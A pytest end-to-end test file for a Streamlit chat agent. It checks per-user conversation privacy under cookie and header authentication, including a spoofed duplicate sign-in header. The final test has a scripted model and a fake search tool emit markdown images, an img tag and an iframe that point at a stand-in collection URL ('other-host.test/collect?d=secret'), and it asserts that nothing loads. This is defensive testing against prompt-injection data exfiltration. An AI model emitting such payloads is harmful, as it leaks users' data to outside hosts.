"""Private conversations in a real browser: each person sees only their own, and untrusted
text never makes the browser load anything from another origin."""

from __future__ import annotations

import uuid
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
import sqlalchemy as sa

from streamlit_agent.web.identity import BROWSER_COOKIE, browser_owner
from tests.e2e_support import (
    SECRET_QUESTION,
    VIEWPORT,
    AppProcess,
    as_anonymous_browser,
    assert_not_theirs,
    chat_messages,
    model_env,
    new_page,
    open_refused,
    open_url,
    owner_chats,
    send_chat,
    sidebar_text,
    wait_for_app,
    wait_for_chat_text,
    wait_for_idle,
)
from tests.pg_support import PG_URL, pg_admin
from tests.scripted_openai import Reply, ScriptedOpenAI

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

HEADER = "X-Forwarded-Email"


@pytest.fixture
def pg_db_url() -> Iterator[str]:
    admin = pg_admin(isolation_level="AUTOCOMMIT")
    name = f"sa_priv_{uuid.uuid4().hex[:10]}"
    with admin.connect() as conn:
        conn.execute(sa.text(f'CREATE DATABASE "{name}"'))
    try:
        yield sa.make_url(PG_URL).set(database=name).render_as_string(hide_password=False)
    finally:
        with admin.connect() as conn:
            conn.execute(sa.text(f'DROP DATABASE "{name}" WITH (FORCE)'))
        admin.dispose()


@pytest.fixture(params=["sqlite", "postgresql"])
def db_url(request: pytest.FixtureRequest, tmp_path) -> str:
    """Each privacy test runs on a SQLite file and on a PostgreSQL database of its own."""
    if request.param == "postgresql":
        return request.getfixturevalue("pg_db_url")
    return f"sqlite:///{tmp_path / 'c.db'}"


def test_anonymous_browsers_each_see_only_their_own_conversations(
    db_url: str,
    browser: Any,
    app_factory: Callable[..., AppProcess],
    scripted_model: ScriptedOpenAI,
) -> None:
    env = model_env(scripted_model, STREAMLIT_AGENT_DB_URL=db_url)
    app = app_factory(env)
    alice, bob = new_page(browser), new_page(browser)
    open_url(alice, app.url)  # no cookie yet: the app gives this browser an identity
    url = owner_chats(alice)
    assert "thread=" in url

    open_url(bob, app.url)
    assert "bank PIN" not in sidebar_text(bob)
    assert_not_theirs(bob, url)
    # A made-up id is not adopted as a new conversation either.
    assert_not_theirs(bob, app.url + "/?thread=a")
    # Bob's own chat stays his, and Alice's stays hers, after a reload and a restart.
    open_url(bob, app.url)
    send_chat(bob, "What is 6 * 7?")
    wait_for_chat_text(bob, "The calculator returned: 42.")
    alice.reload()
    wait_for_app(alice)
    assert SECRET_QUESTION in chat_messages(alice)[0]
    assert "What is 6 * 7?" not in sidebar_text(alice)
    port = app.port
    app.stop()
    app_factory(env, port=port)
    open_url(alice, url)
    assert SECRET_QUESTION in chat_messages(alice)[0]
    assert_not_theirs(bob, url)


def test_two_tabs_on_a_first_visit_become_one_person_and_lose_nothing(
    browser: Any,
    app_factory: Callable[..., AppProcess],
    scripted_model: ScriptedOpenAI,
    tmp_path,
) -> None:
    db = tmp_path / "c.db"
    app = app_factory(model_env(scripted_model, STREAMLIT_AGENT_DB_URL=f"sqlite:///{db}"))
    context = browser.new_context(viewport=VIEWPORT)  # one browser, no cookie yet
    one, two = context.new_page(), context.new_page()
    # Both requests leave before either page has run its cookie script.
    one.goto(app.url, wait_until="commit")
    two.goto(app.url, wait_until="commit")
    for page in (one, two):
        wait_for_app(page)
    one.wait_for_timeout(1500)  # a tab that lost the race reloads to take up the cookie
    for page in (one, two):
        wait_for_app(page)
    send_chat(one, "My name is Ada")
    wait_for_chat_text(one, "Nice to meet you, Ada")
    send_chat(two, "What is 6 * 7?")
    wait_for_chat_text(two, "The calculator returned: 42.")
    [cookie] = [c for c in context.cookies(app.url) if c["name"] == BROWSER_COOKIE]
    for page in (one, two):
        page.reload()
        wait_for_app(page)
    assert "My name is Ada" in chat_messages(one)[0]
    assert "What is 6 * 7?" in chat_messages(two)[0]
    for page in (one, two):  # one person: each tab lists both conversations
        assert "My name is Ada" in sidebar_text(page)
        assert "What is 6" in sidebar_text(page)
    with sa.create_engine(f"sqlite:///{db}").connect() as conn:
        owners = conn.execute(sa.text("SELECT DISTINCT owner FROM conversations")).scalars()
        assert list(owners) == [browser_owner(cookie["value"])]


def test_header_mode_keeps_users_apart_and_refuses_requests_without_the_header(
    db_url: str,
    browser: Any,
    app_factory: Callable[..., AppProcess],
    scripted_model: ScriptedOpenAI,
) -> None:
    env = model_env(
        scripted_model, STREAMLIT_AGENT_DB_URL=db_url, STREAMLIT_AGENT_AUTH_HEADER=HEADER
    )
    first = app_factory(env)
    # On PostgreSQL, two app instances behind one proxy: Bob lands on the other one.
    second = app_factory(env) if db_url.startswith("postgresql") else first
    alice = new_page(browser, extra_http_headers={HEADER: "alice@example.org"})
    bob = new_page(browser, extra_http_headers={HEADER: "bob@example.org"})
    nobody = new_page(browser)

    open_url(alice, first.url)
    assert "alice@example.org" in sidebar_text(alice)
    url = owner_chats(alice)
    thread = url.split("thread=")[1].split("&")[0]

    open_url(bob, second.url)
    assert "bob@example.org" in sidebar_text(bob)
    assert "bank PIN" not in sidebar_text(bob)
    assert_not_theirs(bob, f"{second.url}/?thread={thread}")
    # Alice sees it on either instance.
    open_url(alice, f"{second.url}/?thread={thread}")
    assert SECRET_QUESTION in chat_messages(alice)[0]

    body = open_refused(nobody, f"{first.url}/?thread={thread}")
    assert "sign-in header" in body and "4321" not in body
    assert nobody.locator('[data-testid="stChatInput"]').count() == 0
    # A proxy that adds to the client's own header instead of replacing it.
    both = new_page(browser, extra_http_headers={HEADER: "mallory@example.org, alice@example.org"})
    body = open_refused(both, f"{first.url}/?thread={thread}")
    assert "more than once" in body and "4321" not in body
    assert both.locator('[data-testid="stChatInput"]').count() == 0


def test_injected_images_and_html_never_load_anything_from_another_origin(
    browser: Any, app_factory: Callable[..., AppProcess], scripted_model: ScriptedOpenAI, tmp_path
) -> None:
    env = model_env(
        scripted_model,
        STREAMLIT_AGENT_DB_URL=f"sqlite:///{tmp_path / 'c.db'}",
        STREAMLIT_AGENT_SEARCH_BACKEND="tests.fake_search:injected",
    )
    app = app_factory(env)
    page = new_page(browser)
    app_origin = "{0.scheme}://{0.netloc}".format(urlsplit(app.url))
    outside: list[str] = []

    def guard(route: Any) -> None:
        url = route.request.url
        if url.startswith(app_origin) or url.startswith(("data:", "blob:", "about:")):
            route.continue_()
        else:
            outside.append(url)
            route.abort()

    page.context.route("**/*", guard)
    as_anonymous_browser(page.context, app.url)
    open_url(page, app.url)
    leak = "http://other-host.test/collect?d=secret"
    scripted_model.enqueue(
        Reply.tool("web_search", {"query": f"![q]({leak}&from=input)"}),
        Reply.text(
            f"Here: ![x]({leak}&from=answer) <img src='{leak}&from=html'> "
            f"[ref image]![r][r]\n\n[r]: {leak}&from=ref\n\nSee [the source]({leak}&from=link)."
        ),
    )
    title = f"Search ![t]({leak}&from=title) <iframe src='{leak}&from=frame'></iframe>"
    send_chat(page, title)
    wait_for_chat_text(page, "the source")
    wait_for_idle(page)
    body = page.locator('[data-testid="stApp"]').inner_text()
    assert f"{leak}&from=link" in body  # a link stays readable, its whole target shown
    page.reload()
    wait_for_app(page)
    page.wait_for_timeout(500)
    assert outside == []
    main = page.locator('[data-testid="stApp"]')
    assert main.locator("img[src*='other-host']").count() == 0
    assert main.locator("iframe[src*='other-host']").count() == 0
    assert "Search" in sidebar_text(page)
